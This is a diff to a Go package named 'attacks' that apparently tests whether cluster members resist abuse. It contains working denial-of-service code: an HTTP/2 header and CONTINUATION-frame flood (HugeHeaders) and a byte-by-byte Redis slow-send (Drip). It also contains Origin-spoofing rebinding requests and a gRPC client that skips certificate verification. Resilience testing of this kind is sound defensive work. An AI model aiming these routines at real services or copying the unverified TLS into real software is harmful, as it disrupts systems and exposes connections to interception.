@@ -2,7 +2,6 @@ package attacks
 
 import (
 	"context"
-	"crypto/tls"
 	"encoding/binary"
 	"io"
 	"net"
@@ -66,15 +65,10 @@ func UnreadAnswers(ctx context.Context, api string, calls int, options ...grpc.D
 // The connections last as long as ctx. It returns how many bytes the member took.
 func HugeHeaders(ctx context.Context, api string, connections, size int) (taken int64, err error) {
 	const piece = 16 << 10
-	frame := func(length int, kind, flags byte, stream uint32) []byte {
-		head := binary.BigEndian.AppendUint32(nil, uint32(length)<<8|uint32(kind)) //nolint:gosec // at most a piece
-		return binary.BigEndian.AppendUint32(append(head, flags), stream)
-	}
 	// A literal header of a new name whose value is size bytes long.
 	field := append([]byte{0, 1, 'x', 0x7f}, binary.AppendUvarint(nil, uint64(size-0x7f))...) //nolint:gosec // positive
-	open := append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(0, 4, 0, 0)...)          // empty SETTINGS
-	open = append(append(open, frame(len(field), 1, 0, 1)...), field...)                      // HEADERS without an end
-	next := append(frame(piece, 9, 0, 1), make([]byte, piece)...)                             // CONTINUATION
+	open := append([]byte(preface), frame(frameHeaders, 0, 1, field)...)                      // without an end
+	next := frame(frameContinuation, 0, 1, make([]byte, piece))
 	for range connections {
 		conn, err := dial(ctx, "tcp", api)
 		if err != nil {
@@ -83,7 +77,6 @@ func HugeHeaders(ctx context.Context, api string, connections, size int) (taken 
 			}
 			return taken, err
 		}
-		context.AfterFunc(ctx, func() { _ = conn.Close() })
 		go func() { _, _ = io.Copy(io.Discard, conn) }()
 		if _, err := conn.Write(open); err != nil {
 			continue // refused
@@ -102,7 +95,7 @@ func HugeHeaders(ctx context.Context, api string, connections, size int) (taken 
 // Drip sends a Redis command byte by byte at intervals. It returns after how long the member closed the connection; it stops
 // when the command is complete.
 func Drip(ctx context.Context, redis, command string, interval time.Duration) (time.Duration, error) {
-	conn, err := (&net.Dialer{Timeout: patience}).DialContext(ctx, "tcp", redis)
+	conn, err := dialer(ctx, "tcp").DialContext(ctx, "tcp", redis)
 	if err != nil {
 		return 0, err
 	}
@@ -149,14 +142,10 @@ func Rebind(ctx context.Context, address, method, path, body string) (int, error
 		req.Header.Set("Origin", "http://"+req.Host)
 		req.Header.Set("Content-Type", "application/json")
 	}
-	resp, err := http.DefaultClient.Do(req)
-	if err != nil {
-		return 0, err
-	}
-	return resp.StatusCode, resp.Body.Close()
+	return answered(req, false)
 }
 
 // OverTLS is the option of a gRPC client that looks at no certificate.
 func OverTLS() grpc.DialOption {
-	return grpc.WithTransportCredentials(credentials.NewTLS(&tls.Config{InsecureSkipVerify: true})) //nolint:gosec // a stranger's
+	return grpc.WithTransportCredentials(credentials.NewTLS(unjudged()))
 }
